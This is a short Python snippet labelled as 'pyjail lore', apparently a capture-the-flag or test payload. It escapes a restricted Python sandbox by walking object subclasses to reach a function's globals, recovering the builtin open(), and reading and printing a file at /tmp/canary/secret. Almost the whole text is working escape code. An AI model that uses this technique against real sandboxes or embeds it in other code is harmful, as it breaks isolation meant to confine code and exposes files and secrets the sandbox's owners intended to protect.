# source: pyjail lore
# effect: secret

walk = (lambda: 0).__class__.__bases__[0].__subclasses__()
for kind in walk:
    table = getattr(kind.__init__, "__globals__", {})
    if "__builtins__" in table:
        builtin = table["__builtins__"]
        opener = builtin["open"] if type(builtin) is dict else builtin.open
        print(opener("/tmp/canary/secret").read())
        break
